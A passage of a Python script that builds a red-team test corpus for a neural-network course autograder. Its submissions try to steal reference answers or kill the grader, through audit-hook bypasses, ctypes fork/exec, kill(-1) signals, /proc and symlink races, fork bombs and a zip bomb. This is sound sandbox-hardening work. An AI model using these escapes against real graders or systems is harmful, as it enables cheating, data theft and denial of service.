"""Builds the red-team corpus (tests/submissions/) and the demo's sample submissions
(grader/sample_submissions/) from the cell sources below.

Run ``python tests/submissions/build.py`` after changing a source; a test checks that the
committed files are what this script writes (files it no longer writes are removed).

The corpus: ``reference`` (full marks), ``empty``, and red-team cases, grouped by category
below, each a submission whose q1_2 cell is a determined attempt to get points without writing
the answer, or to break or kill the grader, and whose q1_5 cell is honest. ``expected.json``
(written from ``CASES``) states, per case, the score the grader must give and why: 0 on q1_2
for every case (7 for the reference) and 3 on q1_5 (0, or either, where the submission
cannot be read). A few cases are made by the test in a temporary copy of the corpus
(``make_test_cases``): a zip bomb, a 60 MB notebook and links into the checkout.
"""

from __future__ import annotations

import base64
import io
import json
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from grader.files import atomic_write_bytes, atomic_write_text  # noqa: E402
from grader.notebooks import graded_cell, notebook_text  # noqa: E402

CORPUS = Path(__file__).resolve().parent
SAMPLES = ROOT / "grader" / "sample_submissions"

# ----------------------------------------------------------------- the reference solution


def solution_cells():
    """The graded code cells of ``solutions/`` by question id, without their ``# graded:``
    line: the one reference solution, which the corpus and the demo's samples are built on."""
    import nbformat

    from grader.notebooks import find_cells

    notebooks = {p.name: nbformat.read(p, as_version=4)
                 for p in sorted((ROOT / "solutions").glob("*.ipynb"))}
    return {qid: cell["source"].split("\n", 1)[1] for qid, cell in find_cells(notebooks).items()
            if cell["cell_type"] == "code"}


def mutate(source, old, new):
    """``source`` with ``old`` replaced by ``new``; an ``old`` not found is an error, so that
    a change to the solutions cannot silently turn a wrong answer into a right one."""
    if old not in source:
        raise ValueError(f"{old!r} is not in the solution cell it should change")
    return source.replace(old, new)


SOLUTION = solution_cells()
(BPTT, RNN_CELL, PALINDROME, OPTIMIZERS, COUNT, LSTM_CELL, GRADIENT_NORMS, BINARY_PALINDROME,
 PEEPHOLE_GRU, TEXT_MODEL, GREEDY, TEMPERATURE, COMPLETION, BEAM, GCN, EXAMPLE_GRAPHS, GAT,
 GRAPH_LSTM) = (SOLUTION[q] for q in (
    "q1_1", "q1_2", "q1_3", "q1_4", "q1_5", "q1_6", "q1_7", "q1_8", "q1_9", "q2_1", "q2_2",
    "q2_3", "q2_4", "q2_5", "q3_1", "q3_2", "q3_3", "q3_5"))

ANSWERS = {
    "q1_1": "dL/dW_ph uses only h_T; dL/dW_hh sums over every earlier step through the chain "
            "of Jacobians W_hh^T diag(1 - h_k^2), which shrinks or grows geometrically.",
    "q1_4": "Momentum averages noisy gradients; RMSProp and Adam scale each step per parameter.",
    "q3_4": "Molecule property prediction (atoms, bonds); recommendation (users, items).",
}

REFERENCE_CELLS = {qid: SOLUTION[qid] for qid in sorted(SOLUTION)}

# ----------------------------------------------------------------- red-team building blocks
#
# Every red-team case below is a student folder (or a .zip) whose q1_2 cell cheats or attacks
# the grader and whose q1_5 cell is honest. A q1_2 cell is made of the blocks here: the attack
# itself, then either STUB (a cell that scores nothing on its own) or USE_STOLEN (a cell that
# scores full marks if, and only if, the attack got hold of the grader's reference). So every
# case scores 0 on q1_2 exactly when the grader held; a leak shows up as points.

# Files and processes these cells create carry this mark, so the test can look for them.
MARK = "redteam-pwned"

STUB = '''
import keras


class VanillaRNNCell(keras.layers.Layer):
    """No weights and no computation: on its own this cell scores nothing."""

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def call(self, x, states):
        return states[0], states
'''

# The handed-out cell of notebook 02: it raises until written.
HANDED_OUT = '''
import keras


class VanillaRNNCell(keras.layers.Layer):
    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = units

    def build(self, input_shape):
        raise NotImplementedError("write your solution here")

    def call(self, x_t, states):
        raise NotImplementedError("write your solution here")
'''

# Where a student would look for the reference, without a name the policy refuses: the kit's
# checkout (found through one of its bundled data files), the working folder, every path in
# the environment, every folder two levels below the root, and all their parents.
CANDIDATES = '''
import os
import pathlib

from course_kit.data.bundled import bundled_file


def candidate_roots():
    roots = {pathlib.Path(bundled_file("cora.npz")).resolve().parents[3], pathlib.Path.cwd(),
             pathlib.Path(os.path.expanduser("~"))}
    try:
        roots |= {p for p in pathlib.Path("/").glob("*/*") if not p.is_relative_to("/proc")}
    except OSError:
        pass
    for value in os.environ.values():
        roots |= {pathlib.Path(part) for part in value.split(":") if part.startswith("/")}
    roots |= {parent for root in list(roots) for parent in root.parents}
    return sorted(roots)


def reference_candidates():
    return [str(root / "grader" / "references" / "q1_2.npz") for root in candidate_roots()]
'''

# What was stolen, as versions of q1_2.npz: ``stolen`` holds bytes (or dicts of arrays);
# anything that is not a reference (someone's trap, a pickle) is dropped.
VERSIONS = '''
import io

import numpy as np

if isinstance(stolen, (bytes, bytearray, dict)):
    stolen = [stolen]
versions = []
for item in stolen:
    try:
        version = item if isinstance(item, dict) else dict(np.load(io.BytesIO(bytes(item))))
    except Exception:
        continue
    if "expected.outputs" in version:
        versions.append(version)
'''

# Full marks from a stolen reference: replay its outputs, and plant its gradients with a term
# that is zero in value and whose derivative is the reference gradient. Nothing stolen: an
# error. (For cells the policy can pass: a leak through the jail shows as points.)
USE_STOLEN = VERSIONS + '''
import keras
from keras import ops

if not versions:
    raise FileNotFoundError("no copy of the reference was found")


class VanillaRNNCell(keras.layers.Layer):
    """Computes nothing: replays the stolen reference."""

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = self.state_size = units
        self.calls = 0

    def build(self, input_shape):
        self.W_hx = self.add_weight(shape=(input_shape[-1], self.units), name="W_hx")
        self.W_hh = self.add_weight(shape=(self.units, self.units), name="W_hh")
        self.b_h = self.add_weight(shape=(self.units,), name="b_h")

    def call(self, x, states):
        seen = ops.convert_to_numpy(x)
        ref, step, best = versions[0], (self.calls - 1) % 5, np.inf
        for version in versions:  # which version and which step: the one whose x matches
            inputs = version.get("input.x")
            if inputs is None or inputs.shape[::2] != seen.shape:
                continue
            for t in range(inputs.shape[1]):
                distance = float(np.abs(inputs[:, t] - seen).max())
                if distance < best:
                    ref, step, best = version, t, distance
        self.calls += 1
        h = ops.convert_to_tensor(ref["expected.outputs"][:, step], dtype=x.dtype)
        if step == 0 and "expected.gradients" in ref and "input.readout" in ref:
            weights = (self.W_hx, self.W_hh, self.b_h)
            flat = ops.concatenate([ops.reshape(w, (-1,)) for w in weights])
            planted = ops.sum(flat * ops.convert_to_tensor(ref["expected.gradients"], x.dtype))
            r0 = ref["input.readout"][:, 0]
            direction = ops.convert_to_tensor(r0 / np.sum(r0 * r0), x.dtype)
            h = h + direction * (planted - ops.stop_gradient(planted))
        return h, [h]
'''

# For cells the policy refuses anyway (no points either way): a leak through the jail is told
# in the error message, which the grader reports as a note and the test looks for.
# The mark, "redteam-leaked", is put together at run time: a note quoting the source line
# must not carry it.
REPORT_STOLEN = VERSIONS + '''
if versions:
    leaked = "redteam-" + "leaked"
    raise RuntimeError(f"{leaked}: this cell read the grader's reference ({len(versions)} copies)")
raise FileNotFoundError("no copy of the reference was found")
'''

# A python one level below the audit hook prints the first readable path of its arguments.
READER = '''
import sys

READER = (
    "import sys\\n"
    "for path in sys.argv[1:]:\\n"
    "    try:\\n"
    "        sys.stdout.buffer.write(open(path, 'rb').read())\\n"
    "        break\\n"
    "    except OSError:\\n"
    "        pass\\n"
)
'''

# subprocess without subprocess: _posixsubprocess.fork_exec raises no audit event.
UNHOOKED = '''
import _posixsubprocess
import os
import shutil


def spawn(argv, setsid=False, stdout=-1):
    """Start argv as subprocess.Popen does (Python 3.11's fork_exec), returning its pid."""
    program = argv[0] if "/" in argv[0] else shutil.which(argv[0])
    errpipe_read, errpipe_write = os.pipe()
    try:
        return _posixsubprocess.fork_exec(
            argv, [os.fsencode(program)], True, (errpipe_write,), None, None,
            -1, -1, -1, stdout, -1, -1, errpipe_read, errpipe_write,
            True, setsid, -1, None, None, None, -1, None, True)
    finally:
        os.close(errpipe_read)
        os.close(errpipe_write)


def run_unhooked(argv):
    """Run argv to completion below the audit hook; return what it printed."""
    read_end, write_end = os.pipe()
    pid = spawn(argv, stdout=write_end)
    os.close(write_end)
    chunks = []
    while chunk := os.read(read_end, 1 << 16):
        chunks.append(chunk)
    os.close(read_end)
    os.waitpid(pid, 0)
    return b"".join(chunks)
'''

LIBC = '''
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
'''

# Would a kill(-1) hit only the jail? A kill(-1) outside one, as root, takes the machine down,
# so these cells fire it only where the pid says "new PID namespace" or the uid is a jail's
# (nobody, or the grader's range of unused uids).
JAILED = '''
import os

JAILED = os.getpid() < 50 or os.getuid() == 65534 or 61000 <= os.getuid() < 61064
if not JAILED:
    raise PermissionError("not in a PID namespace: kill(-1) withheld (it would hit the machine)")
'''

# Frames as the grader's protocol writes them: magic CKG1, header and payload lengths, JSON
# header, .npz payload. ``spray`` writes to every descriptor but 0-2: one is the result pipe.
# (The policy refuses these cells anyway: what is tested is that the grader's reading of the
# pipe voids the question, says so, and survives.)
FRAMES = '''
import io
import json
import os
import struct
import threading
import time

import numpy as np

SHAPES = np.array([[3, 4], [4, 4], [4, 0]])  # the right weight shapes, known from the notebook


def frame(header, payload=b""):
    encoded = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack(">4sIQ", b"CKG1", len(encoded), len(payload)) + encoded + payload


def arrays(**named):
    buffer = io.BytesIO()
    np.savez(buffer, **named)
    return buffer.getvalue()


def spray(data, seconds=3):
    """Write data to every descriptor but 0-2 (os.write: no audit event); a pipe that nobody
    reads is given up after ``seconds``."""
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd <= 2:
            continue
        try:
            blocking = os.get_blocking(fd)
            os.set_blocking(fd, False)
        except OSError:
            continue
        view, deadline = memoryview(data), time.monotonic() + seconds
        try:
            while view and time.monotonic() < deadline:
                try:
                    view = view[os.write(fd, view):]
                except BlockingIOError:
                    time.sleep(0.001)
        except OSError:
            pass
        finally:
            try:
                os.set_blocking(fd, blocking)
            except OSError:
                pass

'''

# One compressed megabyte of zeros repeated: a zip entry of gigabytes in a few MB (used by a
# forged frame below and, through ``exec`` in this script, for the test's zip bomb).
BOMB = '''
import struct
import zlib


def deflate_bomb(name, prefix, size):
    """A zip (bytes) with one deflated entry ``name``: ``prefix`` then zeros, ``size`` bytes."""
    chunk = bytes(1 << 20)
    count, rest = divmod(size - len(prefix), len(chunk))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(bytes(rest)) + compressor.flush()
    data = head + block * count + tail  # a full flush resets the compressor: blocks repeat
    crc = zlib.crc32(prefix)
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(bytes(rest), crc)
    encoded = name.encode()
    local = struct.pack("<4s5H3L2H", b"PK\\x03\\x04", 20, 0, 8, 0, 0x21, crc, len(data), size,
                        len(encoded), 0)
    central = struct.pack("<4s6H3L5H2L", b"PK\\x01\\x02", 20, 20, 0, 8, 0, 0x21, crc, len(data),
                          size, len(encoded), 0, 0, 0, 0, 0o644 << 16, 0)
    end = struct.pack("<4s4H2LH", b"PK\\x05\\x06", 0, 0, 1, 1, len(central) + len(encoded),
                      len(local) + len(encoded) + len(data), 0)
    return local + encoded + data + central + encoded + end


def npy_header(descr, shape):
    text = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (63 - (10 + len(text)) % 64) + "\\n"
    return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text.encode()
'''

# A forbidden cell (made by ``make_engine``, defined before) held where Keras' attribute
# tracking does not look: a SimpleNamespace. The cell's sub-layers look empty.
def hidden_engine(names=("W_hx", "W_hh", "b_h")):
    return f'''
import types

import keras


class VanillaRNNCell(keras.layers.Layer):
    """Delegates to an engine the grader does not see; its weights are aliased as ours."""

    def __init__(self, units, **kwargs):
        super().__init__(**kwargs)
        self.units = self.state_size = units
        self.hidden = types.SimpleNamespace(engine=make_engine(units))

    def build(self, input_shape):
        engine = self.hidden.engine
        engine.build(input_shape)
        self.W_hx, self.W_hh, self.b_h = ({", ".join(f"engine.{n}" for n in names)})

    def call(self, x, states):
        h = self.hidden.engine(x, states)[0]
        return h, [h]
'''


# The kit's cell, reached through the experiments module, which imports the kit's cell factory
# (a module no list of forbidden names holds). In the jail the kit is the student edition,
# whose cell is a stub that raises.
KIT_ENGINE = '''
import course_kit.experiments.palindrome


def make_engine(units):
    return course_kit.experiments.palindrome.make_cell("rnn", units)
'''

KIT_CELL_FROM_EXPERIMENTS = '''
import course_kit.experiments.palindrome

VanillaRNNCell = lambda units: course_kit.experiments.palindrome.make_cell("rnn", units)  # noqa
'''


def _public_fixture_outputs():
    """h_t of q1_2's public fixture, rounded: what a student who copies the fixture's expected
    outputs into the cell would paste."""
    import numpy as np

    with np.load(ROOT / "course_kit" / "checks" / "fixtures" / "q1_2.npz") as fixture:
        return np.round(fixture["expected.outputs"], 8).tolist()


# ----------------------------------------------------------------- the red-team cases


def notebook(cells_by_id, answers=None):
    cells = [nbformat.v4.new_markdown_cell("Submission built by tests/submissions/build.py.")]
    for graded_id, source in cells_by_id.items():
        cells.append(graded_cell(source, graded_id))
    for graded_id, text in (answers or {}).items():
        cells.append(graded_cell(text, f"{graded_id}_answer", "markdown"))
    for index, cell in enumerate(cells):
        cell.id = f"cell-{index}"  # fixed ids keep the files identical from build to build
    return nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": {
        "name": "python3", "display_name": "Python 3", "language": "python"}})



# Red-team questions and points: q1_2 (7 points: 1 weights, 3 outputs, 3 gradients) and q1_5 (3).
CORPUS_QUESTIONS = "q1_2,q1_5"


@dataclass
class Case:
    """One red-team submission and what the grader must give it.

    ``q1_2`` / ``q1_5``: the expected automatic score, a number or ``[low, high]``. ``files``:
    the submission's files (relative path -> text or bytes); a name ending in ``.zip`` makes the
    submission that zip. ``made_by="test"``: the test creates the files (too big, or pointing
    into the checkout). ``status`` / ``note``: the q1_2 status, and words one note of q1_2 or q1_5
    must contain (any of a list, case-insensitive), where these are stable. ``policy``: "clean"
    when the q1_2 cell must pass the grader's static policy (its 0 must then come from the
    jail or the probe's inspection), "flagged" when the policy is the defence.
    """

    name: str
    category: str
    reason: str
    q1_2: object = 0
    q1_5: object = 3
    files: dict = field(default_factory=dict)
    made_by: str = "build.py"
    status: str | None = None
    note: list | None = None
    policy: str | None = None


CASES: dict[str, Case] = {}


def add(name, category, reason, *, files=None, **expected):
    CASES[name] = Case(name, category, reason, files=files or {}, **expected)


def cheat(name, category, source, reason, *, extra=None, **expected):
    """A student folder: q1_2 is ``source``, q1_5 is honest; ``extra`` adds files."""
    cells = notebook({"q1_2": source, "q1_5": COUNT})
    add(name, category, reason, files={"submission.ipynb": cells, **(extra or {})}, **expected)


TIMED_OUT = {"status": "timeout", "note": ["timed out"]}

# --- baseline: the reference, an empty folder and two honest mistakes
BASELINE = "baseline"
add("reference", BASELINE, "the reference solution: full marks", q1_2=7)
add("empty", BASELINE, "a notebook without graded cells: nothing to grade", q1_5=0)
# a syntax error in q1_2 costs q1_2 only
cheat("syntax_error", BASELINE, "def VanillaRNNCell(:\n    pass\n",
      "a syntax error costs q1_2 only", note=["SyntaxError"])
# weights stored transposed: the contract is broken, so outputs are not even computed
cheat("wrong_shapes", BASELINE,
      mutate(mutate(RNN_CELL, "shape=(input_dim, self.units)", "shape=(self.units, input_dim)"),
             "ops.matmul(x_t, self.W_hx)", "ops.matmul(x_t, ops.transpose(self.W_hx))"),
      "an honest mistake: weights of the wrong shape score nothing")

# --- processes below the audit hook: start a python without the hook, let it read the reference
PROCESSES = "processes below the audit hook"
# _posixsubprocess.fork_exec (what subprocess calls, no audit event) runs a reader
cheat("fork_exec_reader", PROCESSES, CANDIDATES + READER + UNHOOKED + '''
stolen = [run_unhooked([sys.executable, "-c", READER, *reference_candidates()])]
''' + REPORT_STOLEN, "a process started below the audit hook finds no reference in the jail")
# os.fork, then dup2 and execv a fresh interpreter (the fork keeps the hook, the exec drops it)
cheat("os_fork_reader", PROCESSES, CANDIDATES + READER + '''
import os

read_end, write_end = os.pipe()
pid = os.fork()
if pid == 0:
    os.dup2(write_end, 1)
    os.execv(sys.executable, [sys.executable, "-c", READER, *reference_candidates()])
os.close(write_end)
with os.fdopen(read_end, "rb") as pipe:
    stolen = [pipe.read()]
os.waitpid(pid, 0)
''' + REPORT_STOLEN, "a forked and exec'd reader finds no reference")
# os.posix_spawn with the reader's stdout on a pipe
cheat("posix_spawn_reader", PROCESSES, CANDIDATES + READER + '''
import os

read_end, write_end = os.pipe()
pid = os.posix_spawn(sys.executable, [sys.executable, "-c", READER, *reference_candidates()],
                     dict(os.environ), file_actions=[(os.POSIX_SPAWN_DUP2, write_end, 1)])
os.close(write_end)
with os.fdopen(read_end, "rb") as pipe:
    stolen = [pipe.read()]
os.waitpid(pid, 0)
''' + REPORT_STOLEN, "posix_spawn: no reference to read")
# libc fork, dup2 and execv through ctypes: no Python-level event at all
cheat("ctypes_fork_reader", PROCESSES, CANDIDATES + READER + LIBC + '''
import os

argv = [sys.executable.encode(), b"-c", READER.encode(), *map(str.encode, reference_candidates())]
read_end, write_end = os.pipe()
pid = libc.fork()
if pid == 0:
    libc.dup2(write_end, 1)
    libc.execv(argv[0], (ctypes.c_char_p * (len(argv) + 1))(*argv, None))
    libc._exit(127)
os.close(write_end)
with os.fdopen(read_end, "rb") as pipe:
    stolen = [pipe.read()]
os.waitpid(pid, 0)
''' + REPORT_STOLEN, "a ctypes fork finds no reference")
# the obvious attempt: subprocess.run a python that prints the file
cheat("popen_reader", PROCESSES, CANDIDATES + READER + '''
import subprocess

stolen = [subprocess.run([sys.executable, "-c", READER, *reference_candidates()],
                         capture_output=True, timeout=8).stdout]
''' + REPORT_STOLEN, "subprocess.run finds no reference")
# a multiprocessing pool in the spawn context: its workers start without the hook
cheat("multiprocessing_spawn", PROCESSES, CANDIDATES + '''
import multiprocessing

stolen = []
with multiprocessing.get_context("spawn").Pool(1) as pool:
    for candidate in reference_candidates():
        try:
            stolen.append(pool.apply(pathlib.Path(candidate).read_bytes))
            break
        except OSError:
            pass
''' + REPORT_STOLEN, "a spawned pool worker finds no reference")
# the forkserver context: a server process that outlives the cell, forking readers
cheat("multiprocessing_forkserver", PROCESSES, CANDIDATES + '''
import multiprocessing

stolen = []
with multiprocessing.get_context("forkserver").Pool(1) as pool:
    for candidate in reference_candidates():
        try:
            stolen.append(pool.apply(pathlib.Path(candidate).read_bytes))
            break
        except OSError:
            pass
''' + REPORT_STOLEN, "a forkserver worker finds no reference")
# os.system: find / for any checkout's q1_2.npz and copy it into the working folder
cheat("os_system_find", PROCESSES, '''
import glob
import os

os.system("i=0; for f in $(timeout 8 find / -xdev -name q1_2.npz 2>/dev/null); do "
          "i=$((i+1)); cp \\"$f\\" stolen-$i.npz; done")
stolen = [open(path, "rb").read() for path in sorted(glob.glob("stolen-*.npz"))]
''' + REPORT_STOLEN, "a shell's find / sees no checkout")
# a daemon (fork_exec in a new session, double fork, setsid) that sleeps through the run
cheat("daemon_double_fork", PROCESSES, UNHOOKED + '''
import sys

DAEMON = ("import os, time\\nif os.fork():\\n    os._exit(0)\\nos.setsid()\\n"
          "if os.fork():\\n    os._exit(0)\\ntime.sleep(600)\\n")
os.waitpid(spawn([sys.executable, "-c", DAEMON, "redteam-daemon"], setsid=True), 0)
''' + STUB, "a daemon must not outlive the student's jail (the test looks for it)")
# the same through libc: fork, setsid, fork, exec a shell that sleeps for ten minutes
cheat("daemon_ctypes_setsid", PROCESSES, LIBC + '''
import os

argv = [b"/bin/sh", b"-c", b"sleep 600; :", b"redteam-daemon"]
pid = libc.fork()
if pid == 0:
    libc.setsid()
    if libc.fork() == 0:
        libc.execv(argv[0], (ctypes.c_char_p * 5)(*argv, None))
    libc._exit(0)
os.waitpid(pid, 0)
''' + STUB, "a libc daemon must not outlive the jail")
# a bounded fork bomb: 128 sleeping children by os.fork, else below the hook
cheat("fork_bomb_bounded", PROCESSES, UNHOOKED + '''
import time

started = 0
for _ in range(128):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    started += 1
for _ in range(128 - started):
    try:
        spawn(["sleep", "30"])
    except OSError:
        break
''' + STUB, "128 sleeping children: contained, then killed with the jail")
# subprocess, os.fork and multiprocessing, 300 of each, each refusal swallowed
cheat("process_storm", PROCESSES, '''
import os, subprocess, multiprocessing
started = []
for attempt in (lambda: subprocess.Popen(['sleep', '30']),
                lambda: os.fork(),
                lambda: multiprocessing.Process(target=print).start()):
    for _ in range(300):
        try:
            started.append(attempt())
        except Exception:
            break
''' + STUB, "hundreds of processes: contained; the honest q1_5 still scores")

# --- signals to the grader
SIGNALS = "signals to the grader"
# SIGKILL to the parent: the grader, outside a PID namespace
cheat("kill_parent_sigkill", SIGNALS, '''
import os
import signal

os.kill(os.getppid(), signal.SIGKILL)
''' + STUB, "the grader is not the child's parent in any way a signal can reach")
# kill(-1): every process the student may signal (only inside a PID namespace, see JAILED)
cheat("kill_all_minus_one", SIGNALS, JAILED + '''
import signal

os.kill(-1, signal.SIGKILL)
''' + STUB, "kill(-1) reaches the jail only")
# killpg of the grader's process group, then of our own group
cheat("killpg_parent", SIGNALS, '''
import os
import signal

os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
os.killpg(0, signal.SIGTERM)
''' + STUB, "no process group of the grader is reachable")
# libc.kill through ctypes (no audit event): the parent, then -1
cheat("ctypes_libc_kill", SIGNALS, LIBC + '''
import os

libc.kill(os.getppid(), 9)
''' + JAILED + '''
libc.kill(-1, 9)
''' + STUB, "native kill reaches the jail only")
# a pidfd for the parent and pidfd_send_signal
cheat("pidfd_kill_parent", SIGNALS, '''
import os
import signal

signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
''' + STUB, "no pidfd for the grader")
# SIGSTOP to itself: a stopped child must still time out
cheat("sigstop_self", SIGNALS, '''
import os
import signal

os.kill(os.getpid(), signal.SIGSTOP)
''' + STUB, "a stopped child is killed at the wall-clock limit", **TIMED_OUT)
# SIGTERM, SIGINT, SIGHUP and SIGXCPU ignored, then a busy loop
cheat("ignore_sigterm", SIGNALS, '''
import signal

for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU, signal.SIGUSR1):
    signal.signal(number, signal.SIG_IGN)
while True:
    pass
''', "ignoring polite signals does not stop a SIGKILL at the limit", **TIMED_OUT)

# --- file access: find the reference the grader compares with. Cells marked CLEAN use nothing
# the policy refuses, so their 0 must come from the jail (a leak scores 7); the others report
# a leak in their error message (see REPORT_STOLEN).
FILES = "file access"
CLEAN = {"policy": "clean"}
# numpy.load of every candidate path
cheat("read_references", FILES, CANDIDATES + '''
import numpy as np

stolen = []
for candidate in reference_candidates():
    try:
        stolen.append(dict(np.load(candidate)))
    except OSError:
        pass
''' + USE_STOLEN,
      "the references do not exist inside the jail", **CLEAN)
# a directory descriptor and dir_fd, and a relative path full of '..' from the working folder
cheat("read_references_dir_fd", FILES, CANDIDATES + '''
stolen = []
here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
for root in candidate_roots():
    upward = "../" * 16 + str(root).lstrip("/") + "/grader/references/q1_2.npz"
    for base, relative in ((str(root), "grader/references/q1_2.npz"), (".", upward)):
        try:
            folder = os.open(base, os.O_RDONLY | os.O_DIRECTORY) if base != "." else here
            handle = os.open(relative, os.O_RDONLY, dir_fd=folder)
            stolen.append(os.read(handle, 1 << 22))
        except OSError:
            pass
''' + REPORT_STOLEN, "no directory descriptor leads to the references")
# check-then-open race: a thread swaps a symlink between a decoy and the reference
cheat("symlink_swap_race", FILES, CANDIDATES + '''
import threading
import time

pathlib.Path("decoy.npz").write_bytes(b"decoy")
targets, stop, stolen = ["decoy.npz", *reference_candidates()], [], []


def flip():
    while not stop:
        for target in targets:
            try:
                pathlib.Path("next").symlink_to(target)
                pathlib.Path("next").replace("link")
            except OSError:
                pass


threading.Thread(target=flip, daemon=True).start()
deadline = time.monotonic() + 4
while not stolen and time.monotonic() < deadline:
    try:
        data = pathlib.Path("link").read_bytes()
        if data.startswith(b"PK"):
            stolen.append(data)
    except OSError:
        pass
stop.append(True)
''' + USE_STOLEN, "the swap has nothing to point at", **CLEAN)
# the same race on the working directory: a thread chdirs between the check and the open
cheat("chdir_race", FILES, CANDIDATES + '''
import threading
import time

home = os.getcwd()
os.makedirs("grader/references", exist_ok=True)
pathlib.Path("grader/references/q1_2.npz").write_bytes(b"decoy")
roots, stop, stolen = [str(root) for root in candidate_roots()], [], []


def wander():
    while not stop:
        for root in roots:
            try:
                os.chdir(root)
            except OSError:
                pass
            os.chdir(home)


threading.Thread(target=wander, daemon=True).start()
deadline = time.monotonic() + 4
while not stolen and time.monotonic() < deadline:
    try:
        data = pathlib.Path("grader/references/q1_2.npz").read_bytes()
        if data.startswith(b"PK"):
            stolen.append(data)
    except OSError:
        pass
stop.append(True)
os.chdir(home)
''' + REPORT_STOLEN, "the race has no real reference to reach")
# /proc/<pid>/cwd and /proc/<pid>/root of the parent and every ancestor
PARENTS = '''
def ancestors():
    """The parent, its parent, ... (read from /proc/<pid>/stat)."""
    found, pid = [], "self"
    while True:
        try:
            fields = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            return found
        pid = int(fields[1])
        if pid <= 0 or pid in found:
            return found
        found.append(pid)
'''
cheat("proc_parent_cwd", FILES, CANDIDATES + PARENTS + '''
stolen = []
for pid in ancestors():
    for suffix in ("cwd/grader/references/q1_2.npz",
                   *(f"root/{c.lstrip('/')}" for c in reference_candidates())):
        try:
            stolen.append(pathlib.Path(f"/proc/{pid}/{suffix}").read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "the grader's /proc entries are not visible from the jail", **CLEAN)
# /proc/self/root, /proc/1/root and /proc/1/cwd in front of every candidate
cheat("proc_self_root", FILES, CANDIDATES + '''
stolen = []
for prefix in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd"):
    for candidate in reference_candidates():
        try:
            stolen.append(pathlib.Path(prefix + candidate).read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "the jail's root holds no references", **CLEAN)
# the environment of every process (pid 1, the parent, ...): paths (PWD, VIRTUAL_ENV, ...)
cheat("proc_environ", FILES, '''
import os
import pathlib

paths, names = set(), set()
for pid in ["1", "self", *sorted(p for p in os.listdir("/proc") if p.isdigit())]:
    try:
        entries = pathlib.Path(f"/proc/{pid}/environ").read_bytes().split(b"\\0")
    except OSError:
        continue
    for entry in entries:
        name, _, value = entry.decode(errors="replace").partition("=")
        names.add(name)
        paths.update(part for part in value.split(":") if part.startswith("/"))
print("variables seen:", sorted(n for n in names if n.upper().startswith(("GRADER", "COURSE"))))
stolen = []
for path in paths:
    for base in [pathlib.Path(path), *pathlib.Path(path).parents]:
        try:
            stolen.append((base / "grader" / "references" / "q1_2.npz").read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "no environment points at a readable reference", **CLEAN)
# walk up from the working folder, looking in every folder and every sibling
cheat("walk_up_from_cwd", FILES, '''
import os
import pathlib

stolen = []
here = pathlib.Path.cwd()
for folder in [here, *here.parents]:
    try:
        names = os.listdir(folder)
    except OSError:
        continue
    for base in [folder, *(folder / name for name in names)]:
        try:
            stolen.append((base / "grader" / "references" / "q1_2.npz").read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "walking up reaches no checkout", **CLEAN)
# glob for references/*.npz: fixed depths from /, then ** under each parent of the working folder
cheat("glob_references", FILES, '''
import glob
import pathlib

found = []
for depth in range(1, 6):
    found += glob.glob("/*" * depth + "/grader/references/q1_2.npz")
for folder in list(pathlib.Path.cwd().parents)[:-1]:
    found += [str(folder / p) for p in glob.glob("**/references/*.npz", root_dir=folder,
                                                     recursive=True)]
stolen = []
for path in found:
    if path.endswith("q1_2.npz"):
        try:
            stolen.append(pathlib.Path(path).read_bytes())
        except OSError:
            pass
''' + USE_STOLEN, "no glob matches inside the jail", **CLEAN)
# /work, $HOME, /root, /home/*, /srv, /opt: list them and look two levels down
cheat("read_home_and_work", FILES, '''
import os
import pathlib

stolen, seen = [], []
for top in ("/work", os.path.expanduser("~"), "/root", "/home", "/srv", "/opt", "/mnt", "/data"):
    try:
        names = sorted(os.listdir(top))
    except OSError:
        continue
    seen.append(f"{top}: {names[:20]}")
    for first in names:
        for base in (pathlib.Path(top, first), *pathlib.Path(top, first).glob("*")):
            try:
                stolen.append((base / "grader" / "references" / "q1_2.npz").read_bytes())
            except OSError:
                pass
print("\\n".join(seen))
''' + USE_STOLEN, "the jail has no /work, and its HOME is the scratch folder", **CLEAN)
# the checkout's .git: every blob, loose or packed (deltas resolved), that is a q1_2.npz
cheat("git_objects", FILES, CANDIDATES + '''
import zlib


def apply_delta(base, delta):
    def varint(pos):
        value = shift = 0
        while True:
            byte = delta[pos]
            pos += 1
            value |= (byte & 0x7F) << shift
            shift += 7
            if not byte & 0x80:
                return value, pos
    _, pos = varint(0)
    _, pos = varint(pos)
    out = bytearray()
    while pos < len(delta):
        op = delta[pos]
        pos += 1
        if op & 0x80:
            offset = size = 0
            for i in range(4):
                if op & (1 << i):
                    offset |= delta[pos] << (8 * i)
                    pos += 1
            for i in range(3):
                if op & (16 << i):
                    size |= delta[pos] << (8 * i)
                    pos += 1
            out += base[offset:offset + (size or 0x10000)]
        else:
            out += delta[pos:pos + op]
            pos += op
    return bytes(out)


def pack_objects(pack, index):
    data = pack.read_bytes()
